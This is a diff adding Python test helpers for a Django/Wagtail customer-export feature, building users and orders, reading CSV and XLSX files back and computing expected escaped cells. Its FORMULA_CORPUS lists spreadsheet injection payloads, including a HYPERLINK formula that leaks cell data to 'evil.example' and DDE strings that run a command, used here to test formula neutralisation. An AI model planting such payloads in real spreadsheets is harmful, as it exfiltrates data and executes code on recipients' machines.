@@ -1,0 +1,135 @@
+"""Helpers shared by the export tests: users, data, reading files back, and the rows expected from the database."""
+
+import csv
+import io
+import re
+from decimal import Decimal
+
+import openpyxl
+from django.contrib.auth import get_user_model
+from django.contrib.auth.models import Permission
+from django.utils import timezone
+
+from tests.factories import order_data
+from wagtail_customers.columns import COLUMNS
+from wagtail_customers.models import AccessGrant, ListingPreference
+from wagtail_customers.services.ingestion import record_orders
+
+ALL_COLUMNS = [column.name for column in COLUMNS]
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")
+START_URL = "/admin/customers/exports/start/"
+
+#: Text a spreadsheet would run, in the places an export shows text.
+FORMULA_CORPUS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "+41 22 123 45 67",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\0=1+1",
+    "=1+1",
+]
+
+
+def exporter(username, *accounts, columns=None, **grant_flags):
+    """A Wagtail admin user who may view and export ``accounts`` (nothing else)."""
+    user = get_user_model().objects.create_user(username, f"{username}@example.com", "pw")
+    user.user_permissions.add(Permission.objects.get(content_type__app_label="wagtailadmin", codename="access_admin"))
+    for account in accounts:
+        AccessGrant.objects.create(user=user, account=account, can_view=True, can_export=True, **grant_flags)
+    if columns is not None:
+        ListingPreference.objects.create(user=user, columns=list(columns))
+    return user
+
+
+def make_customers(account, count, *, prefix="c", start=0, **extra):
+    """``count`` customers with one order each, distinct amounts (so every tab has a strict order)."""
+    orders = [
+        order_data(
+            f"{prefix}{start + i}",
+            email=f"{prefix}{start + i}@example.com",
+            name=f"Customer {prefix}{start + i}",
+            lines=((1 + i % 3, f"{10 + i}.25"),),
+            day=i % 200,
+            **extra,
+        )
+        for i in range(count)
+    ]
+    record_orders(account, orders)
+
+
+def neutralised(text):
+    return "'" + text if text and text[0] in TRIGGERS else text
+
+
+def read_csv(content):
+    """Rows of a CSV file (bytes or text), the byte order mark removed."""
+    if isinstance(content, bytes):
+        content = content.decode("utf-8")
+    assert content.startswith("\ufeff"), "CSV files start with a UTF-8 byte order mark"
+    return list(csv.reader(io.StringIO(content[1:], newline="")))
+
+
+def read_xlsx(content):
+    """Cell values of the first sheet (openpyxl reads numbers as numbers, dates as datetimes)."""
+    workbook = openpyxl.load_workbook(io.BytesIO(content), read_only=True)
+    sheet = workbook.worksheets[0]
+    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
+    workbook.close()
+    return rows
+
+
+def response_bytes(response):
+    if getattr(response, "streaming", False):
+        return b"".join(response.streaming_content)
+    return response.content
+
+
+def expected_cells(customer, columns):
+    """Each column's value for ``customer``, as the export should render it (text neutralised, numbers native)."""
+    local_last = timezone.localtime(customer.last_order_at).replace(tzinfo=None) if customer.last_order_at else None
+    values = {
+        "name": customer.name,
+        "email": customer.email,
+        "address": ", ".join(part for part in (customer.address_line1, customer.address_line2) if part),
+        "postal_code": customer.postal_code,
+        "city": customer.city,
+        "state": customer.state,
+        "country": customer.country,
+        "orders_count": customer.orders_count,
+        "units": customer.units,
+        "amount_spent": customer.amount_spent,
+        "discount_total": customer.discount_total,
+        "promo_codes_used": customer.promo_codes_used,
+        "negative_feedbacks": customer.negative_feedbacks,
+        "returned_units": customer.returned_units,
+        "account": customer.account.name,
+        "last_order_at": local_last,
+    }
+    return [neutralised(values[name]) if isinstance(values[name], str) else values[name] for name in columns]
+
+
+def as_csv_text(value):
+    if value is None:
+        return ""
+    if hasattr(value, "isoformat"):
+        return value.isoformat(sep=" ", timespec="seconds")
+    return str(value)
+
+
+def as_xlsx_value(value):
+    """What openpyxl reads back: empty text is an empty cell, decimals are floats."""
+    if value == "":
+        return None
+    if isinstance(value, Decimal):
+        return float(value)
+    return value
+
+
+def decode_xlsx_escapes(value):
+    """Text as Excel shows it: XlsxWriter stores control characters as ``_xHHHH_`` (OOXML's escape)."""
+    if not isinstance(value, str):
+        return value
+    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda match: chr(int(match.group(1), 16)), value)
